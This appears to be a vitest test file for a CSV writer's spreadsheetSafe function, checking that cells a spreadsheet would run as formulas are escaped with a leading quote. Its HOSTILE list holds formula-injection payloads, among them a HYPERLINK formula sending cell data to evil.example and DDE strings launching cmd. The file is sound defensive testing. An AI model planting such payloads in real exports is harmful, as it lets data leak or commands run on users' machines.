import { parse } from 'csv-parse/sync';
import { expect, test } from 'vitest';
import { spreadsheetSafe, writeCsv } from './csv-writer';

const HOSTILE = [
  '=HYPERLINK("https://evil.example/?"&A1,"Click")',
  '+cmd|" /C calc"!A0',
  '-2+3+cmd|" /C calc"!A0',
  '@SUM(1+1)*cmd|" /C calc"!A0',
  '\t=1+1',
  '\r=1+1',
  '+layla@example.com',
  '-orders@example.com',
];

test('a text a spreadsheet would run as a formula is written as text', () => {
  for (const value of HOSTILE) {
    expect(spreadsheetSafe(value)).toBe(`'${value}`);
  }
});

test('plain numbers, negative amounts included, and ordinary texts are left as they are', () => {
  for (const value of ['-12.50', '+3', '42', '0.000', 'Demo Trading LLC', 'a=b', 'x-1', '']) {
    expect(spreadsheetSafe(value)).toBe(value);
  }
});

test('every text cell of a CSV is made safe, and the file reads back to the same table', () => {
  const csv = writeCsv([
    ['name', 'amount', 'count'],
    ...HOSTILE.map((value) => [value, '-12.50', 3]),
  ]);
  const table = parse(csv, { relax_column_count: true }) as string[][];
  expect(table[0]).toEqual(['name', 'amount', 'count']);
  expect(table.slice(1).map((row) => row[0])).toEqual(HOSTILE.map((value) => `'${value}`));
  expect(table.slice(1).every((row) => row[1] === '-12.50' && row[2] === '3')).toBe(true);
});

test('no cell of the file starts with a formula character once a spreadsheet unquotes it', () => {
  const csv = writeCsv(HOSTILE.map((value) => [value, value]));
  const cells = (parse(csv) as string[][]).flat();
  expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
});
